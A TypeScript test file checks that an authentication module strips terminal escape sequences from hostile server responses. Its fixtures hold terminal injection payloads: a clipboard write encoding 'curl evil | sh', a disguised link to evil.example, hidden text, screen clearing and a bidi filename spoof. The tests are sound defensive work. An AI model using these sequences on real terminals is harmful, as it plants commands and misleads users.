// Finding 9 (issue 12): text a hostile server sends reaches the person without terminal escapes, through the built
// core, resident (--serve) as the module runs it.

import { existsSync } from 'node:fs'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import directory from '../fixtures/directory.json' with { type: 'json' }
import managedIdentities from '../fixtures/managedIdentities.json' with { type: 'json' }
import { startEmulator, type Emulator } from '../emulator/index.js'
import { bundle, runResident } from './residentCore.js'

const tenant = directory.tenants[0]!
const app = tenant.apps[0]!
const azureCli = tenant.apps.find((candidate) => candidate.name === 'azure-cli')!

const ESC = '\x1b'
/** A clipboard write, a link whose target is not its text, hidden text, screen clearing, a bidi override, 8-bit CSI. */
const HOSTILE = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07${ESC}]8;;https://evil.example/${ESC}\\https://microsoft.com/devicelogin${ESC}]8;;${ESC}\\ ${ESC}[8mhidden${ESC}[0m${ESC}[2J\u202eexe.txt\u202c\x9b3J`
const SHOWN = 'https://microsoft.com/devicelogin hiddenexe.txt'
/** What a terminal would act on: ESC, C0 but tab/LF, DEL, C1, bidi controls (JSON escapes counted too). */
const TERMINAL_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\\u00(?:1b|9b|9d)|\\u202[a-e]/i

/** One request to a resident core (--serve, as the module runs it): stdout is its raw messages, stderr its lines. */
function runCore(emulator: Emulator, request: Record<string, unknown>, env: Record<string, string> = {}): Promise<{ stdout: string; stderr: string; envelope: any }> {
  return runResident({ AZURE_AUTHORITY_HOST: emulator.url, NODE_EXTRA_CA_CERTS: emulator.caFile, ...env }, { protocolVersion: 1, timeoutSec: 20, logLevel: 'debug', ...request })
}

/** An unsigned JWT with hostile claims: the core only decodes claims for the verbose facts line. */
function hostileToken(): string {
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
  return `${part({ alg: 'RS256', typ: 'JWT' })}.${part({ aud: `https://graph.microsoft.com${HOSTILE}`, tid: tenant.id, roles: [`User.Read.All${ESC}]52;c;ZXZpbA==\x07`, `\u202eevil`], idtyp: `app${ESC}[2J` })}.c2lnbmF0dXJl`
}

describe('finding 9: server text is shown without terminal escapes', () => {
  let emulator: Emulator
  beforeAll(async () => {
    if (!existsSync(bundle)) throw new Error('module/bin/entraauth.mjs is missing: run "npm run build" first')
    emulator = await startEmulator({ deviceCodeIntervalSeconds: 0.2 })
  })
  afterAll(async () => emulator.close())
  beforeEach(() => emulator.reset())

  it('finding 9: a hostile device code message and error_description', async () => {
    emulator.injectFaults({
      clientId: azureCli.clientId,
      responses: [
        { kind: 'json', status: 200, body: { device_code: 'DC-hostile', user_code: 'HOSTILE1', verification_uri: 'https://microsoft.com/devicelogin', expires_in: 900, interval: 1, message: `To sign in, open ${HOSTILE} and enter the code HOSTILE1.` } },
        { kind: 'json', status: 400, body: { error: 'invalid_grant', error_description: `AADSTS70000: ${HOSTILE} was refused.`, error_codes: [70000] } },
      ],
    })
    const run = await runCore(emulator, { flow: 'deviceCode', tenantId: 'organizations', clientId: azureCli.clientId, scopes: ['https://graph.microsoft.com/User.Read'] })
    const prompt = run.stderr.split('\n').filter((line) => line.startsWith('[EntraAuth] prompt: '))
    expect(prompt).toEqual([`[EntraAuth] prompt: To sign in, open ${SHOWN} and enter the code HOSTILE1.`])
    expect(run.envelope.ok).toBe(false)
    expect(run.envelope.error.message).toContain(`AADSTS70000: ${SHOWN} was refused.`)
    expect(run.envelope.error.oauth.errorDescription).toBe(`AADSTS70000: ${SHOWN} was refused.`)
    expect(run.stderr).not.toMatch(TERMINAL_CONTROL)
    expect(run.stdout).not.toMatch(TERMINAL_CONTROL)
  })

  it('finding 9: hostile token type and claims in the verbose facts line', async () => {
    emulator.injectFaults({ clientId: app.clientId, responses: [{ kind: 'json', status: 200, body: { token_type: `Bearer${ESC}]0;owned\x07`, expires_in: 3599, access_token: hostileToken() } }] })
    const run = await runCore(emulator, { flow: 'clientSecret', tenantId: tenant.id, clientId: app.clientId, clientSecret: app.secrets[1]!.value })
    const facts = run.stderr.split('\n').find((line) => line.startsWith('[EntraAuth] verbose: token: '))
    expect(run.envelope.token.tokenType).toBe('Bearer')
    expect(run.envelope.token.claims).toMatchObject({ aud: `https://graph.microsoft.com${SHOWN}`, roles: ['User.Read.All', 'evil'], idtyp: 'app' })
    expect(run.stdout, 'the envelope, whose claims PowerShell shows with -Verbose').not.toMatch(TERMINAL_CONTROL)
    expect(facts, run.stderr).toMatch(/^\[EntraAuth\] verbose: token: Bearer for https:\/\/graph\.microsoft\.comhttps:\/\/microsoft\.com\/devicelogin hiddenexe\.txt \(tenant [^)]+, app token\), expires .*; roles User\.Read\.All evil$/)
    expect(run.stderr).not.toMatch(TERMINAL_CONTROL)
  })

  it('finding 9: a hostile OAuth error code and description', async () => {
    emulator.injectFaults({ clientId: app.clientId, responses: [{ kind: 'json', status: 401, body: { error: `invalid_client${ESC}[2J`, error_description: `AADSTS7000215: ${HOSTILE}` } }] })
    const run = await runCore(emulator, { flow: 'clientSecret', tenantId: tenant.id, clientId: app.clientId, clientSecret: 'wrong-secret-value' })
    expect(run.envelope.error.message).toContain(`AADSTS7000215: ${SHOWN}`)
    expect(run.envelope.error.oauth.error).toBe('invalid_client')
    expect(run.stdout + run.stderr).not.toMatch(TERMINAL_CONTROL)
  })

  it('finding 9: a hostile managed identity error message', async () => {
    emulator.injectFaults({ path: 'managedIdentity', responses: [{ kind: 'json', status: 400, body: { statusCode: 400, message: `No identity here ${HOSTILE}` } }] })
    const run = await runCore(emulator, { flow: 'managedIdentity', tenantId: '' }, { IDENTITY_ENDPOINT: emulator.managedIdentity.appServiceEndpoint, IDENTITY_HEADER: managedIdentities.identityHeader })
    expect(run.envelope.error.message).toContain(`No identity here ${SHOWN}`)
    expect(run.stdout + run.stderr).not.toMatch(TERMINAL_CONTROL)
  })
})
